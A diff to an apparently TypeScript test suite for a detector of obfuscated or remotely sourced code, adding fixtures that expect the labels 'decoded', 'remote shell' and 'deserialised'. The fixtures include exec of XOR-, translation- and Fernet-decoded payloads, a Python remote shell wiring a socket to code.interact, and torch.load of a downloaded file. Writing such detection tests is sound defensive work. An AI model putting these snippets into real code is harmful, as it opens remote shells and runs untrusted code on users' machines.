@@ -142,6 +142,36 @@ const CASES: readonly Case[] = [
     },
     ['decoded'],
   ],
+  [
+    'bytes that are combined with a key',
+    { 'a.py': `key = b'ab'\nexec(''.join(chr(c ^ key[i % 2]) for i, c in enumerate([1, 2, 3])))` },
+    ['decoded'],
+  ],
+  [
+    'letters in the place of others',
+    { 'a.py': `table = str.maketrans('abc', 'xyz')\nexec('cab'.translate(table))` },
+    ['decoded'],
+  ],
+  [
+    'an encrypted text',
+    { 'a.py': `from cryptography.fernet import Fernet\nexec(Fernet(KEY).decrypt(DATA))` },
+    ['decoded'],
+  ],
+  ['nothing but brackets', { 'a.js': `${'[](!+)'.repeat(30)}` }, ['decoded']],
+  [
+    'standard input from a connection',
+    {
+      'a.py': `import code, socket, sys\ns = socket.create_connection(('192.0.2.4', 5))\nsys.stdin = s.makefile()\ncode.interact()`,
+    },
+    ['remote shell'],
+  ],
+  [
+    'objects in a file that was downloaded',
+    {
+      'a.py': `import torch, urllib.request as r\nr.urlretrieve('https://c.example.invalid/m', '/tmp/m')\ntorch.load('/tmp/m', weights_only=False)`,
+    },
+    ['deserialised'],
+  ],
 ];
 
 describe('code from elsewhere', () => {
